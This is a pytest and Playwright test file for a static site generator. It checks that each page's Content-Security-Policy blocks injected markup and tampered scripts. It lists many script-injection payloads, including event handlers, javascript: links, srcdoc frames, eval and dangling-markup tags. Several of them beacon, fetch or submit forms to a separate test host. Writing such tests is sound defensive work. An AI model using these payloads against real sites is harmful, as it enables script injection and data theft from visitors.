"""The policy of a page holds even where somebody got markup, or a script's code, into it.

No text gets there as markup: other tests say so. Here it is put there, into pages as they are
published, and a browser shows them from a folder and from a host that sends no header. Each attack
is tried without the policy, too, where it has to succeed.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, nullcontext, suppress
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Error, Page

from tests import dom
from tests.built import files, make_site
from tests.effort import effort
from tests.served import served
from tests.torture.elsewhere import Elsewhere, elsewhere

ESSAY = """\
title: The park
prose: |
  The park should [stay open](#open).[^1]

  [^1]: A note.
contention:
  id: open
  text: The park should stay open.
  tags: [night]
  sources: ["https://example.org/study"]
  aliases: [stay-open]
  rebuttals: [It costs much.]
points:
  - number: 1
    title: Children
    prose: Children [play there](#play).
    claim: {id: play, text: Children play there.}
"""

KINDS = (
    "park/index.html", "index.html", "park/open.html", "search.html", "404.html", "park/map.html",
    "park/outline.html", "about.html", "statements.html", "open.html", "sources.html",
    "tags/index.html", "tags/night.html", "how-to-read.html", "park/stay-open.html",
)  # fmt: skip
"""A page of each kind; the last leads on to another."""

RUN = "(globalThis.ran ??= []).push"

MARKUP = {
    "inline-script": f"<script>{RUN}('inline-script')</script>",
    "script": '<script src="{at}/script.js"></script>',
    "module": '<script type="module" src="{at}/module.js"></script>',
    "data-script": f"<script src=\"data:text/javascript,{RUN}('data-script')\"></script>",
    "drawing-script": f"<svg><script>{RUN}('drawing-script')</script></svg>",
    "drawing-link": '<svg><script href="{at}/drawing-link.js"></script></svg>',
    "onerror": f'<img src="data:,x" onerror="{RUN}(\'onerror\')">',
    "onload": f"<svg onload=\"{RUN}('onload')\"></svg>",
    "ontoggle": f"<details open ontoggle=\"{RUN}('ontoggle')\">x</details>",
    "srcdoc": "<iframe srcdoc=\"<script>(parent.ran ??= []).push('srcdoc')</script>\"></iframe>",
    "script-frame": "<iframe src=\"javascript:(parent.ran ??= []).push('script-frame')\"></iframe>",
    "frame": '<iframe src="{at}/frame"></iframe>',
    "object": '<object data="{at}/object"></object>',
    "embed": '<embed src="{at}/embed">',
    "stylesheet": '<link rel="stylesheet" href="{at}/stylesheet">',
    "prefetch": '<link rel="prefetch" href="{at}/prefetch">',
    "preload": '<link rel="preload" as="image" href="{at}/preload">',
    "module-preload": '<link rel="modulepreload" href="{at}/module-preload">',
    "style": '<style>h1 {{ background: url("{at}/style") }}</style>',
    "import": '<style>@import "{at}/import";</style>',
    "style-attribute": '<p style="background: url({at}/style-attribute)">x</p>',
    "image": '<img src="{at}/image">',
    "image-set": '<img srcset="{at}/image-set 1x">',
    "picture": '<picture><source srcset="{at}/picture"><img alt=""></picture>',
    "drawing-image": '<svg><image href="{at}/drawing-image"/></svg>',
    "poster": '<video poster="{at}/poster"></video>',
    "video": '<video src="{at}/video" preload="auto"></video>',
    "sound": '<audio src="{at}/sound" preload="auto"></audio>',
    "image-button": '<input type="image" src="{at}/image-button">',
    "background": '<table background="{at}/background"><tr><td>x</table>',
    "speculation": '<script type="speculationrules">{{"prefetch": [{{"source": "list", '
    '"urls": ["{at}/speculation"]}}]}}</script>',
}
"""Markup that runs a script or asks another host as soon as a browser meets it; `{at}` is that."""

PRESSED = {
    "script-link": f"<a href=\"javascript:{RUN}('script-link')\">press</a>",
    "onclick": f"<button onclick=\"{RUN}('onclick')\">press</button>",
    "form": '<form action="{at}/form"><button>press</button></form>',
    "post": '<form method="post" action="{at}/post"><button>press</button></form>',
    "form-action": '<form><button formaction="{at}/form-action">press</button></form>',
}
"""Markup that does so once it is pressed."""

NOT_ALONE = frozenset({"speculation", "module-preload"})
"""What a browser decides for itself whether to do, from a folder or without a policy, too."""

CODE = {
    "eval": f"eval(\"{RUN}('eval')\")",
    "function": f"new Function(\"{RUN}('function')\")()",
    "later": f"setTimeout(\"{RUN}('later')\", 0)",
    "new-inline-script": "document.head.append(Object.assign(document.createElement('script'), "
    f"{{text: \"{RUN}('new-inline-script')\"}}))",
    "new-script": "document.head.append(Object.assign(document.createElement('script'), "
    "{src: at + '/new-script.js'}))",
    "blob-script": "document.head.append(Object.assign(document.createElement('script'), {src: "
    f"URL.createObjectURL(new Blob([\"{RUN}('blob-script')\"], {{type: 'text/javascript'}}))}}))",
    "new-handler": "document.body.setAttribute('onclick', \"(globalThis.ran ??= [])"
    ".push('new-handler')\"); document.body.click()",
    "import-script": "import(at + '/import-script.js').catch(() => {})",
    "fetch": "fetch(at + '/fetch').catch(() => {})",
    "request": "const r = new XMLHttpRequest(); r.open('GET', at + '/request'); r.send()",
    "socket": "new WebSocket(at.replace('http', 'ws') + '/socket')",
    "events": "new EventSource(at + '/events')",
    "beacon": "navigator.sendBeacon(at + '/beacon', 'x')",
    "new-image": "new Image().src = at + '/new-image'",
    "new-font": "document.fonts.add(new FontFace('x', `url(${at}/new-font)`)); "
    "document.fonts.load('12px x').catch(() => {})",
    "new-style": "document.body.style.backgroundImage = `url(${at}/new-style)`",
    "new-frame": "document.body.append(Object.assign(document.createElement('iframe'), "
    "{src: at + '/new-frame'}))",
    "new-object": "document.body.append(Object.assign(document.createElement('object'), "
    "{data: at + '/new-object'}))",
    "worker": "const code = new Blob([`fetch('${at}/worker')`]); "
    "new Worker(URL.createObjectURL(code))",
    "submit": "const f = Object.assign(document.createElement('form'), {action: at + '/submit', "
    "target: 'none'}); document.body.append(f); setTimeout(() => f.submit(), 300)",
}
"""Code of a script of the site that somebody changed; `at` is the other host."""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Build a site with a page of each kind."""
    contents = {
        "content/site.yaml": "title: Parks\noptions: {footer: Set by hand.}\n",
        "content/park/essay.yaml": ESSAY,
        "content/about.md": "# About\n\n## Us\n\nWho we are.\n",
    }
    return make_site(tmp_path_factory.mktemp("policy"), contents)


@pytest.fixture(scope="module")
def other() -> Iterator[Elsewhere]:
    """Listen on another host."""
    with elsewhere() as listening:
        yield listening


Shown = Callable[[Path], AbstractContextManager[str]]

WAYS: dict[str, Shown] = {
    "from a folder": lambda folder: nullcontext(folder.as_uri()),
    "from a host": served,
}


@pytest.fixture(params=WAYS)
def address(request: pytest.FixtureRequest, site: Path) -> Iterator[str]:
    """Show the site in one way and the other; return its address."""
    with WAYS[request.param](site) as shown:
        yield shown


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """Open a browser as most readers have it; nothing may open a window or a dialog."""
    with browser.new_context() as context:
        page = context.new_page()
        faults: list[str] = []
        page.on("dialog", lambda dialog: faults.append(dialog.message))
        page.on("popup", lambda popup: faults.append(popup.url))
        yield page
        assert not faults


def attacked(site: Path, path: str, markup: str, *, script: str = "", policy: bool = True) -> Path:
    """Write beside a page a copy with markup in it, and perhaps with a script."""
    html = (site / path).read_text(encoding="utf-8")
    assert "</main>" in html
    html = html.replace("</main>", f"{markup}</main>")
    # The page that leads on would be left before anything is seen.
    html = re.sub(r'<meta http-equiv="refresh"[^>]*>', "", html)
    if script:
        (site / "assets/attack.js").write_text(script, encoding="utf-8")
        up = "../" * path.count("/")
        html = html.replace("</head>", f'<script src="{up}assets/attack.js" defer></script></head>')
    if not policy:
        html, count = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
        assert count == 1
    place = (site / path).with_name(f"attacked-{(site / path).name}")
    place.write_text(html, encoding="utf-8")
    return place


def shown(page: Page, address: str, site: Path, place: Path) -> set[str]:
    """Open an attacked page; return what ran."""
    page.goto(f"{address}/{place.relative_to(site).as_posix()}")
    page.wait_for_timeout(700)
    return set(page.evaluate("globalThis.ran ?? []"))


def in_code(other: Elsewhere) -> str:
    """Return a script that tries each attack by code, whatever the others come to."""
    tries = "".join(
        f"try {{ {code} }} catch (fault) {{ caught.push({json.dumps(name)}); }}\n"
        for name, code in CODE.items()
    )
    return f"const at = {json.dumps(other.address)}, caught = [];\n{tries}"


def test_each_attack_succeeds_where_there_is_no_policy(
    site: Path, address: str, browser: Browser, other: Elsewhere
) -> None:
    page = browser.new_page()
    other.asked.clear()
    markup = "".join(MARKUP.values()).format(at=other.address)
    place = attacked(site, "about.html", markup, policy=False)
    named = shown(page, address, site, place) | set(other.asked)
    assert MARKUP.keys() - named <= NOT_ALONE
    other.asked.clear()
    place = attacked(site, "about.html", "", script=in_code(other), policy=False)
    named = shown(page, address, site, place) | set(other.asked)
    assert CODE.keys() <= named
    page.close()


@pytest.mark.parametrize("path", KINDS[: effort(2, len(KINDS))])
def test_nothing_runs_and_nothing_leaves_whatever_markup_is_on_a_page(
    site: Path, address: str, page: Page, other: Elsewhere, path: str
) -> None:
    other.asked.clear()
    markup = "".join(MARKUP.values()).format(at=other.address)
    refused = "(globalThis.refused ??= []).push(event.effectiveDirective)"
    page.add_init_script(f"addEventListener('securitypolicyviolation', (event) => {refused})")
    assert not shown(page, address, site, attacked(site, path, markup))
    assert other.asked == []
    # It was tried, and it was the policy that refused it.
    assert {"script-src-elem", "script-src-attr", "style-src-elem", "img-src"} <= set(
        page.evaluate("globalThis.refused")
    )


@pytest.mark.parametrize("path", KINDS[: effort(1, len(KINDS))])
def test_a_changed_script_of_the_site_makes_no_code_and_asks_nobody(
    site: Path, address: str, page: Page, other: Elsewhere, path: str
) -> None:
    other.asked.clear()
    assert not shown(page, address, site, attacked(site, path, "", script=in_code(other)))
    assert other.asked == []
    assert (site / path).exists()


@pytest.mark.parametrize("policy", [True, False], ids=["with policy", "without"])
@pytest.mark.parametrize("name", PRESSED)
def test_what_is_pressed_runs_nothing_and_sends_nothing(
    site: Path, page: Page, other: Elsewhere, name: str, *, policy: bool
) -> None:
    markup = PRESSED[name].format(at=f"{other.address}/{policy}")
    place = attacked(site, "about.html", markup, policy=policy)
    page.goto(place.as_uri())
    page.get_by_text("press").click(no_wait_after=True)
    done = False
    for _ in range(5 if policy else 30):
        page.wait_for_timeout(100)
        # The page may be about to be left.
        with suppress(Error):
            done = name in page.evaluate("globalThis.ran ?? []")
        done = done or f"{policy}/{name}" in other.asked
        if done:
            break
    assert done is not policy


def test_a_base_is_of_no_use(site: Path, address: str, page: Page, other: Elsewhere) -> None:
    markup = f'<base href="{other.address}/"><a href="x.html">press</a>'
    page.goto(f"{address}/{attacked(site, 'about.html', markup).name}")
    assert page.get_by_text("press").evaluate("each => each.href") == f"{address}/x.html"


def test_markup_left_open_takes_nothing_along(
    site: Path, address: str, page: Page, other: Elsewhere
) -> None:
    other.asked.clear()
    opened_ways = (
        f"<img src='{other.address}/image?",
        f"<link rel=stylesheet href='{other.address}/style?",
        f"<form action='{other.address}/form'><textarea name=x>",
        f"<style>@import '{other.address}/import?",
    )
    for opened in opened_ways[: effort(2, 4)]:
        assert not shown(page, address, site, attacked(site, "park/index.html", opened))
    assert other.asked == []


def test_without_scripts_nothing_leaves_either(
    site: Path, address: str, browser: Browser, other: Elsewhere
) -> None:
    other.asked.clear()
    everything = "".join(MARKUP.values()).format(at=other.address)
    markup = f"{everything}<noscript>{everything}</noscript>"
    with browser.new_context(java_script_enabled=False) as context:
        page = context.new_page()
        place = attacked(site, "park/open.html", markup)
        page.goto(f"{address}/{place.relative_to(site).as_posix()}")
        page.wait_for_timeout(500)
    assert other.asked == []


def test_the_page_that_searches_with_pagefind_gives_way_as_little(
    page: Page, other: Elsewhere, tmp_path: Path
) -> None:
    essay = {"content/park/essay.yaml": ESSAY}
    site = make_site(tmp_path, {"content/site.yaml": "title: Parks\nsearch: pagefind\n"} | essay)
    other.asked.clear()
    markup = "".join(MARKUP.values()).format(at=other.address)
    place = attacked(site, "search.html", markup, script=in_code(other))
    with served(site) as address:
        assert not shown(page, address, site, place)
        assert page.locator("#pagefind input").count() == 1
    assert other.asked == []


def test_what_a_policy_within_a_page_cannot_do(
    site: Path, browser: Browser, other: Elsewhere
) -> None:
    """A page can lead its reader on, and be framed: a host's headers alone forbid the second."""
    other.asked.clear()
    markup = f'<meta http-equiv="refresh" content="0;url={other.address}/refresh">'
    place = attacked(site, "about.html", "")
    html = place.read_text(encoding="utf-8")
    with served(site) as address, browser.new_context() as context:
        page = context.new_page()
        place.write_text(html.replace("</main>", f"{markup}</main>"), encoding="utf-8")
        page.goto(f"{address}/{place.name}")
        page.wait_for_url(f"{other.address}/refresh")
        place.write_text(html, encoding="utf-8")
        page.set_content(f'<iframe src="{address}/{place.name}"></iframe>')
        frame = page.frame_locator("iframe").get_by_role("heading", level=1)
        assert frame.inner_text() == "About"


def test_the_policy_comes_before_all_that_it_rules_over(site: Path) -> None:
    pages = {
        path: data
        for path, data in files(site).items()
        if path.endswith(".html") and "attacked-" not in path
    }
    assert pages.keys() >= set(KINDS)
    policies = set()
    for path, data in pages.items():
        root = dom.parse(data)
        head = next(dom.elements(root, "head"))
        first, second, *rest = list(head)
        assert first.attrib == {"charset": "utf-8"}, path
        assert second.get("http-equiv") == "Content-Security-Policy", path
        policies.add(second.get("content"))
        assert not [each for each in rest if "security" in each.get("http-equiv", "").lower()], path
        # Before it there are no attributes but these, so nothing could have begun.
        assert set(root.attrib) <= {"lang", "dir"}, path
        assert data.index(b"Content-Security-Policy") < 200, path
    assert len(policies) == 1
